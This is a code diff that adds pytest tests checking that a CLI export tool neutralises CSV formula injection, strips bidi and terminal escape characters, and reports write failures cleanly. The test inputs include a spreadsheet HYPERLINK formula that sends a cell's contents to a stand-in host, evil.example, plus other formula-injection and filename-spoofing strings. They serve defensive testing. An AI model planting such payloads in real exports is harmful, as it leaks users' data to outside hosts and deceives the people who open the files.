@@ -188,3 +188,81 @@ def test_cache_info_and_clear(settings: ResolvedSettings) -> None:
     out = io.StringIO()
     assert cache_clear(settings, out, io.StringIO()) == 0
     assert out.getvalue().startswith("removed 1 cached")
+
+
+# ---------------------------------------------------------------- what export does to its reader's tools
+
+
+def csv_rows(rows: list[dict[str, Any]]) -> list[list[str]]:
+    out = io.StringIO()
+    write_rows(rows, "csv", out)
+    return list(csv.reader(io.StringIO(out.getvalue())))
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+SUM(1,1)",
+        "-1+2",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\x1b]2;T\x07=1+1",  # stripping the escape sequence exposes the formula: neutralised after stripping
+        "  =1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_csv_cells_and_headers_a_spreadsheet_would_run_are_neutralised(name: str) -> None:
+    header, row = csv_rows([{"name": name, name: 1}])
+    for cell in (row[0], header[1]):
+        assert cell.startswith("'"), cell
+        assert "\x1b" not in cell and "\t" not in cell and "\r" not in cell
+
+
+def test_csv_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
+    _, row = csv_rows([{"balance": -5, "ratio": -0.25, "name": "Acme - Edge", "note": "a=b", "ok": True}])
+    assert row == ["-5", "-0.25", "Acme - Edge", "a=b", "true"]
+
+
+def test_csv_list_cells_lose_bidi_and_c1_controls() -> None:
+    _, row = csv_rows([{"tags": ["safe\u202eexe.txt", "next\u0085line", "\x1b[2Jclear"], "name": "x\u202ey"}])
+    joined = "".join(row)
+    for char in ("\u202e", "\u0085", "\x1b"):
+        assert char not in joined
+    assert json.loads(row[0]) == ["safeexe.txt", "nextline", "clear"] and row[1] == "xy"
+
+
+@pytest.mark.parametrize("fmt", ["json", "jsonl"])
+def test_json_escapes_controls_but_keeps_the_data(fmt: str) -> None:
+    rows = [{"name": "safe\u202eexe.txt", "note": "next\u0085line\x1b[2J", "city": "Zürich", "\u2066key": "v"}]
+    out = io.StringIO()
+    write_rows(rows, fmt, out)
+    text = out.getvalue()
+    for char in ("\u202e", "\u0085", "\x1b", "\u2066"):
+        assert char not in text
+    assert "\\u202e" in text and "\\u0085" in text and "Zürich" in text
+    parsed = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
+    assert parsed == rows[0]
+
+
+def test_inner_org_json_is_escaped_too(sandbox: Sandbox, settings: ResolvedSettings) -> None:
+    code, out, _ = export(settings, "inner-org", target_id=first_inner_id(sandbox))
+    assert code == 0 and all(ch not in out for ch in ("\u202e", "\x1b", "\u0085"))
+
+
+def test_command_line_errors_carry_command_line_hints(sandbox: Sandbox, settings: ResolvedSettings) -> None:
+    sandbox.faults = FaultConfig(false_success_rate=1.0)
+    code, _, err = export(settings, "orgs")
+    assert code == 1 and "Press r" not in err and "eiscope export" not in err
+
+
+class _FullDisk(io.StringIO):
+    def write(self, text: str) -> int:
+        raise OSError(28, "No space left on device")
+
+
+def test_a_failed_write_is_one_line_and_exit_1(settings: ResolvedSettings) -> None:
+    err = io.StringIO()
+    code = run_export(ExportRequest(kind="orgs"), settings, _FullDisk(), err)
+    assert code == 1 and err.getvalue() == "eiscope: could not write the export: No space left on device\n"
